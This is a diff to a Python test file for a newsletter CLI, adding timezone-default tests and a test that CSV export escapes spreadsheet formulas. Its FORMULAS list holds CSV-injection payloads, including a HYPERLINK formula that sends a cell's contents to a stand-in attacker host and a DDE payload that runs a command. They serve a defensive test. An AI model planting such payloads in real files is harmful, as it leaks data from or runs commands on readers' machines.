@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import shutil
 from pathlib import Path
 
@@ -117,3 +118,89 @@ def test_a_file_that_is_not_a_list_says_what_to_give(in_database, cli):
     (in_database / "list.json").write_text("{}")
     result = cli("subscribers", "import", "list.json", cwd=in_database)
     assert result.returncode == 2 and "give a .yaml/.yml list" in result.stderr
+
+
+# --- issue 22: a reader without `timezone` is in the newsletter's zone -------------------------
+
+
+def _newsletter_zone(root: Path, zone: str) -> None:
+    config = root / "digest.yaml"
+    text, n = re.subn(r"(?m)^  timezone: \S+", f"  timezone: {zone}", config.read_text(), count=1)
+    assert n == 1
+    config.write_text(text)
+
+
+def test_a_csv_row_without_a_timezone_is_imported_in_the_newsletters_zone(in_database, cli):
+    _newsletter_zone(in_database, "Asia/Tokyo")
+    (in_database / "list.csv").write_text(
+        "email,timezone\nzoneless@example.org,\nlondon@example.org,Europe/London\n"
+    )
+    result = cli("subscribers", "import", "list.csv", cwd=in_database)
+    assert result.returncode == 0, result.stderr
+    readers = _listed(in_database)
+    assert readers["zoneless@example.org"].timezone == "Asia/Tokyo"
+    assert readers["london@example.org"].timezone == "Europe/London"
+
+
+def test_a_yaml_entry_without_a_timezone_is_imported_in_the_newsletters_zone(in_database, cli):
+    _newsletter_zone(in_database, "America/Chicago")
+    (in_database / "list.yaml").write_text("subscribers:\n  - email: zoneless@example.org\n")
+    result = cli("subscribers", "import", "list.yaml", cwd=in_database)
+    assert result.returncode == 0, result.stderr
+    assert _listed(in_database)["zoneless@example.org"].timezone == "America/Chicago"
+
+
+def test_a_hand_written_entry_without_a_timezone_is_sent_at_the_newsletters_local_time(project, cli):
+    _newsletter_zone(project, "Asia/Tokyo")
+    (project / "subscribers.yaml").write_text(
+        'subscribers:\n  - email: zoneless@example.org\n    send_at: "07:00"\n'
+        '    created: "2026-12-01T00:00:00+00:00"\n'
+    )
+    listing = cli("subscribers", cwd=project)
+    assert listing.returncode == 0, listing.stderr
+    assert "Asia/Tokyo" in listing.stdout and "UTC" not in listing.stdout.split("next")[0]
+    # 07:00 on the 8th in Tokyo is 22:00 UTC on the 7th; 07:00 UTC would be 16:00 in Tokyo.
+    early = cli("send", "--due", "--now", "2026-12-07T21:59:00Z", cwd=project)
+    assert "sent 0," in early.stdout, early.stderr
+    due = cli("send", "--due", "--now", "2026-12-07T22:00:00Z", cwd=project)
+    assert "issue 2026-12-08: sent 1," in due.stdout, due.stderr
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+    "'=already quoted",
+    "'plain quote",
+]
+
+
+def test_csv_export_cells_never_start_a_formula_and_import_restores_them(in_database, cli, tmp_path):
+    from digest.store import transfer
+
+    readers = [
+        {"email": f"r{n}@example.org", "name": formula, "keywords": [formula.strip(), "ok"]}
+        for n, formula in enumerate(FORMULAS)
+    ]
+    (in_database / "formulas.yaml").write_text(yaml.safe_dump({"subscribers": readers}))
+    first = cli("subscribers", "import", "formulas.yaml", cwd=in_database)
+    assert first.returncode == 0, first.stderr
+    out = cli("subscribers", "export", "--format", "csv", cwd=in_database)
+    assert out.returncode == 0, out.stderr
+    cells = [cell for row in csv.reader(io.StringIO(out.stdout)) for cell in row]
+    risky = [c for c in cells if c.lstrip("'").lstrip(" ").startswith(transfer._FORMULA_START)]
+    assert risky and all(c.startswith("'") for c in risky)  # each shows as text in a spreadsheet
+    assert "'plain quote" in cells  # a quote of the reader's own is left alone
+
+    other = tmp_path / "other"
+    shutil.copytree(in_database, other, ignore=shutil.ignore_patterns(".digest"))
+    (other / "list.csv").write_text(out.stdout)
+    imported = cli("subscribers", "import", "list.csv", cwd=other)
+    assert imported.returncode == 0, imported.stderr
+    assert _listed(other) == _listed(in_database)
+    assert _listed(other)["r0@example.org"].name == FORMULAS[0]
